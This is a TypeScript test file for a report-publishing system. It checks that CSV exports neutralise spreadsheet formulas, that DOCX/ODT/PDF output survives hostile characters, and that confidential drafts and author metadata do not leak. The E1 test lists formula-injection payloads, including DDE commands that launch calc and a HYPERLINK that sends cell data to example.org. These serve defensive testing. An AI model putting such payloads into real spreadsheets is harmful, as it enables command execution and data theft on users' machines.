/** Files that harm whoever opens them, and files that tell more than they show (security.md §1.3: E1, E2, E6; SPEC: PUB). */
import { parse as parseCsv } from "csv-parse/sync";
import { expect, test } from "vitest";
import { positionsAsCsv } from "../../server/publication/csv.ts";
import { toDocx } from "../../server/publication/docx.ts";
import { toOdt } from "../../server/publication/odt.ts";
import { Typesetter } from "../../server/publication/pdf.ts";
import type { Viewer } from "../../shared/domain/roster.ts";
import { thePublic } from "../../shared/domain/roster.ts";
import type { DelegationCode } from "../../shared/domain/values.ts";
import { voiceIn } from "../../shared/messages/say.ts";
import { aNegotiation, idOf, p } from "../support/negotiations.ts";
import { printed } from "../support/printed.ts";
import { chance } from "../support/random.ts";
import { accepting, readDocx } from "../support/read-docx.ts";
import { readOdt } from "../support/read-odt.ts";
import { readPdf } from "../support/read-pdf.ts";

const voice = voiceIn("en");

/** Ten ways to begin a formula, each with twenty to go on: what spreadsheets are known to run. */
const formulas: readonly string[] = ["=", "+", "-", "@", "=-", "+-", "@=", "==", "-=", "＝"].flatMap((begin) =>
  [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://example.org/?"&A1,"more")',
    'WEBSERVICE("https://example.org/")',
    'IMPORTXML("https://example.org/","//a")',
    "SUM(A1:A9)",
    "A1",
    'DDE("cmd";"/C calc";"x")',
    'MSEXCEL|"\\..\\..\\calc.exe"!""',
    "rundll32|'URL.dll,OpenURL x'!A",
    'IMAGE("https://example.org/x.png")',
    "NOW()",
    'INDIRECT("A1")',
    '"a","b"',
    "1;2",
    "2+3\n=4+5",
    "'x'!A1",
    'T("x")&A2',
    "RAND()",
    "$A$1",
  ].map((rest) => `${begin}${rest}`),
);

const opensFormula = /^[=+\-@\t\r\0＝＋－＠]/;

test("[E1] of 200 formulas in reasons and words none begins a cell of the table of positions", () => {
  expect(formulas.length).toBe(200);
  const talks = aNegotiation(...formulas.map((formula) => p(formula)));
  formulas.forEach((formula, index) => talks.objects("XAA", index + 1, { reason: formula }));
  const rows = parseCsv(positionsAsCsv(talks.report({ kind: "team" })), { bom: true });
  expect(rows.flat().filter((cell) => opensFormula.test(cell))).toEqual([]);
  // Nothing is lost by it.
  const reasons = new Set(rows.map((row) => row[rows[0]!.indexOf("reason")]?.replace(/^'/, "")));
  for (const formula of formulas) expect([...reasons]).toContain(formula);
});

test("[E2] 1,000 strings of what breaks files come back letter by letter from Word and OpenDocument, and PDF is made of them", async () => {
  const seed = Number(process.env["SEED"] ?? 2);
  const random = chance(seed);
  const letters = [
    "a",
    "&",
    "<",
    ">",
    '"',
    "'",
    "]]>",
    "<!--",
    "-->",
    "<?x",
    "&#0;",
    "&lt;",
    "\u0001",
    "\u0008",
    "\u000B",
    "\u001F",
    "\uFFFE",
    "é",
    "🕊",
    "日",
    "ع",
    "[",
    "{{x}}",
    "#x",
    "\\",
  ];
  const texts = Array.from(
    { length: 1_000 },
    (_, index) =>
      `x${index}${Array.from({ length: 1 + random.below(20) }, () => letters[random.below(letters.length)]).join("")}y`,
  );
  const report = printed(aNegotiation(...texts.map((text) => p(text))), "clean");
  // oxlint-disable-next-line no-control-regex -- they are what is left out
  const kept = texts.map((text) => text.replace(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE]/g, ""));
  for (const { paragraphs } of [readDocx(await toDocx(report, voice)), readOdt(await toOdt(report, voice))]) {
    const found = new Map(paragraphs.map((paragraph) => [paragraph.anchor?.slice(5, 27), paragraph]));
    for (const [index, text] of kept.entries())
      expect(
        accepting(found.get(idOf(index + 1))!, () => true),
        `seed ${seed}`,
      ).toBe(text);
  }
  const typesetter = await Typesetter.start([]);
  const { pages } = readPdf(await typesetter.toPdf(report, voice));
  const said = pages.map(({ words }) => words).join(" ");
  for (const index of texts.keys()) expect(said).toContain(`x${index}`);
});

test("[E6] files for those who may not know tell no name, no reason and no draft, in no part of them", async () => {
  const talks = aNegotiation(p("States should cooperate."), p("States should consult."));
  talks.objects("XAA", 1, { reason: "canary reason" });
  const tabled = {
    kind: "table-proposal",
    paragraph: idOf(2),
    wording: talks.wordingOf(2),
    text: "A canary proposal.",
  };
  talks.does("delegation:XAA", tabled as never);
  // Written, and not circulated.
  talks.writes(2, "States should consult on the canary.");
  const typesetter = await Typesetter.start([]);
  for (const viewer of [thePublic, { kind: "delegation", code: "XAB" as DelegationCode }] satisfies Viewer[]) {
    for (const mode of ["clean", "review", "compilation"] as const) {
      const report = printed(talks, mode, viewer);
      const told = [
        Object.values(readDocx(await toDocx(report, voice)).files).join("\n"),
        Object.values(readOdt(await toOdt(report, voice)).files).join("\n"),
      ];
      const read = readPdf(await typesetter.toPdf(report, voice));
      told.push(read.whole + read.pages.map(({ words }) => words).join(" "));
      for (const one of told) {
        expect(one).not.toContain("on the canary");
        if (viewer.kind === "public") expect(one).not.toMatch(/canary|Freedonia/);
      }
    }
  }
});

test("[E6] files say of themselves what they are, and neither who wrote them nor on which machine", async () => {
  const report = printed(aNegotiation(p("States should cooperate.")), "clean");
  const docx = readDocx(await toDocx(report, voice)).files;
  expect(docx["docProps/core.xml"]).toMatch(/<dc:creator>Rapporteur</);
  const { whole } = readPdf(await (await Typesetter.start([])).toPdf(report, voice));
  expect(whole).not.toMatch(/\/(Author|CreationDate|ModDate|Producer) /);
  for (const file of [JSON.stringify(docx), whole]) expect(file).not.toContain(process.cwd());
});
